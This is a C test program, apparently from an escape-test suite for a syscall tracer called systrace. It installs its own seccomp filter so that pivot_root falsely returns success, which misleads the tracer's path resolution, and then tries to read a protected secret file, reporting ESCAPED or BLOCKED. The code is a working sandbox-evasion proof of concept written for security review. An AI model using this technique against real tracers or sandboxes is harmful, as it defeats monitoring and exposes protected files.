/* skip_pivot.c SECRET WORK: a pivot_root the program's own seccomp filter answered with
 * errno 0, under systrace --attach (review 35).
 *
 * Without the prefilter a call stops at its entry before the kernel runs the task's own
 * filters; SECCOMP_RET_ERRNO with errno 0 makes the call return 0, never run.  A pivot_root
 * taken as run moves the root the tracer resolves paths in: the secret's own path, opened
 * after it, is checked as a path below the tmpfs that never became the root.
 *
 * In a new mount namespace (as root, or a user namespace), a tmpfs at WORK/newroot; the filter
 * answers pivot_root with errno 0; with $ESC_WAIT_TRACER set it waits for the tracer; then
 * pivot_root(WORK/newroot, WORK/newroot/old): 0, nothing moved; then open(SECRET).
 * ESCAPED when the secret is read; BLOCKED with the errno otherwise.
 */
#include "attack.h"

#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <stddef.h>
#include <sys/mount.h>
#include <sys/prctl.h>

int main(int argc, char **argv) {
    if (argc < 3)
        usage("skip_pivot SECRET WORK");
    const char *secret = argv[1], *work = argv[2];
    char nr[4096], old[8192];
    if (unshare(CLONE_NEWNS) < 0) {
        uid_t uid = getuid();
        gid_t gid = getgid();
        if (unshare(CLONE_NEWNS | CLONE_NEWUSER) < 0)
            skipped("unshare: %s", ename(errno));
        map_own_ids(uid, gid);
    }
    if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
        skipped("making mounts private: %s", ename(errno));
    snprintf(nr, sizeof nr, "%s/newroot", work);
    mkdir(nr, 0755);
    if (mount("none", nr, "tmpfs", 0, NULL) < 0)
        skipped("mount -t tmpfs: %s", ename(errno));
    snprintf(old, sizeof old, "%s/old", nr);
    mkdir(old, 0755);
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_pivot_root, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {sizeof code / sizeof code[0], code};
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0 ||
        prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog) < 0)
        blocked("installing the filter: %s", ename(errno));
    wait_for_tracer();
    if (syscall(SYS_pivot_root, nr, old) < 0)
        blocked("pivot_root: %s (not skipped)", ename(errno));
    note("pivot_root: 0, skipped by the program's own filter");
    int fd = open(secret, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        blocked("open %s: %s", secret, ename(errno));
    if (is_secret_fd(fd))
        escaped("read %s after a pivot_root that never ran", secret);
    blocked("open %s: not the secret", secret);
}
